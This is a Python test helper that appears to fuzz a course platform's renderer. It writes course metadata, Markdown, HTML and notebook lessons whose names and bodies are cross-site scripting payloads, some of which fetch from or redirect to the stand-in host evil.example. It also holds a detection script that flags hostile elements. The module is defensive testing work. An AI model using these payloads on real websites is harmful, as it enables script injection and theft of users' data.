"""Courses in which nothing is meant well: every name that an instructor can give is a payload, and so are the lessons.

A payload that is run sets `ran`, opens a dialog, or asks or goes to another host.
"""

from __future__ import annotations

import json
import random
import re
from collections.abc import Iterator, Sequence
from html import escape
from itertools import product
from pathlib import Path

from playwright.sync_api import Page

from tests.ingest.loaders.test_notebook import code, markdown, notebook, result, stream

RUN = (
    "window.ran=1",
    "parent.ran=1",
    "alert(1)",
    "fetch('https://evil.example/x')",
    "location='https://evil.example'",
)
SHAPES = (
    "<script>{0}</script>",
    "<img src=x onerror={0}>",
    "<svg/onload={0}>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<iframe srcdoc='<script>{0}</script>'></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror={0}>",
    "<a href='javascript:{0}'>here</a>",
    "[here](javascript:{0})",
    "[here](//evil.example/{0})",
    "![x](https://evil.example/x.png?{0})",
    "<https://evil.example/?{0}>",
    "[here]: javascript:{0}\n\n[here]",
    "`<script>{0}</script>`",
    "```html\n<script>{0}</script>\n```",
    "$\\href{{javascript:{0}}}{{x}}$",
    "$$<img src=x onerror={0}>$$",
    "| <b onmouseover={0}> |\n| --- |\n| <script>{0}</script> |",
    "{{{{constructor.constructor('{0}')()}}}}",
    "</textarea></script><script>{0}</script>",
    '"><body onload={0}>',
    "<style>@import 'https://evil.example/{0}';</style>",
    "<link rel=stylesheet href=https://evil.example/{0}>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/{0}'>",
    "<form action=https://evil.example><button autofocus onfocus={0}>x",
    "\u202e<script>{0}</script>\u2028",
)
AROUND = ("{0}", "**{0}**", "- {0}", "> {0}", "## {0}", "a {0} b", "1. {0}\n   {0}", "*a* {0} [1]", "{0}{0}", "\\{0}")
MOST = len(RUN) * len(SHAPES) * len(AROUND)
A_COURSE, A_LESSON = 50, 5
_EMAIL = "ada@example.org"
# What an element of ours never does: bring code or style along, hold what is foreign, lead elsewhere than here.
_HARMFUL = """() => [...document.querySelectorAll("*")].filter((each) => {
    const abroad = ["href", "xlink:href", "src", "action", "formaction", "data", "poster", "ping"]
        .map((name) => each.getAttribute(name)).filter((value) => value !== null && URL.canParse(value, location.href))
        .map((value) => new URL(value, location.href)).filter(({ origin }) => origin !== location.origin)
        .filter(({ protocol }) => protocol !== "mailto:" && !(protocol === "data:" && each.rel === "icon"));
    return abroad.length || each.matches("iframe, frame, img, object, embed, base, style, animate, set, [srcdoc]")
        || each.matches("script:not([src], #boot), meta[http-equiv]")
        || each.getAttributeNames().some((name) => name.startsWith("on"));
}).map((each) => each.outerHTML)"""
# Said on the console, where a page may have no error.
_ALARM = """
Object.defineProperty(window, "ran", { set: () => console.error("a payload was run") });
window.alert = () => console.error("a payload was run");
"""


def payloads(count: int, seed: int) -> list[str]:
    """So many different payloads, by chance."""
    every = [around.format(shape.format(run)) for run, shape, around in product(RUN, SHAPES, AROUND)]
    random.Random(seed).shuffle(every)
    return every[:count]


def parts(every: Sequence[str], size: int) -> Iterator[list[str]]:
    """Payloads in groups of a size."""
    for at in range(0, len(every), size):
        yield list(every[at : at + size])


def write_course(folder: Path, some: Sequence[str]) -> Path:
    """The folder with a course in it, in whose names and lessons each of these payloads stands."""
    folder.mkdir(parents=True)
    title, description, greeting, licence = (list(some) * 4)[:4]
    course = {
        "title": title,
        "description": description,
        "greeting": greeting,
        "licence": licence,
        "popular_questions": some,
        "contacts": [{"kind": "email", "label": payload, "value": _EMAIL} for payload in some],
        "follow_ups": {"enabled": True, "consent": greeting},
    }
    # JSON is YAML.
    (folder / "course.yaml").write_text(json.dumps(course), encoding="utf-8")
    kinds = (_markdown, _html, _notebook)
    for number, held in enumerate(parts(some, A_LESSON)):
        suffix, body = kinds[number % len(kinds)](number, held)
        path = folder / _file_name(held[-1]) / f"{number:02} {_file_name(held[0])}{suffix}"
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(body)
    return folder


def watch(page: Page) -> None:
    """Have a payload that is run, on any page that this one goes to, count as an error."""
    page.context.add_init_script(_ALARM)


def harmful(page: Page) -> list[str]:
    """Elements of a page that could do harm."""
    found: list[str] = page.evaluate(_HARMFUL)
    return found


def _file_name(payload: str) -> str:
    return re.sub(r"[^ -.0-~]", "_", payload)[:60].strip()


def _markdown(number: int, held: Sequence[str]) -> tuple[str, bytes]:
    matter = f"---\ntitle: {json.dumps(held[0])}\nchapter: {json.dumps(held[-1])}\n---\n\n"
    return ".md", (matter + "\n\n".join((f"Lesson {number}.", *held))).encode()


def _html(number: int, held: Sequence[str]) -> tuple[str, bytes]:
    head = f"<!doctype html><title>{escape(held[0])}</title><main><h1>{escape(held[0])}</h1><p>Lesson {number}.</p>"
    return ".html", (head + "".join(f"<p>{escape(each)}</p><div>{each}</div>" for each in held)).encode()


def _notebook(number: int, held: Sequence[str]) -> tuple[str, bytes]:
    cells = [markdown(f"# {held[0]}\n\nLesson {number}."), *map(markdown, held)]
    outputs = [code(each, stream(each), result(text_plain=each, text_html=each)) for each in held]
    return ".ipynb", notebook(*cells, *outputs)
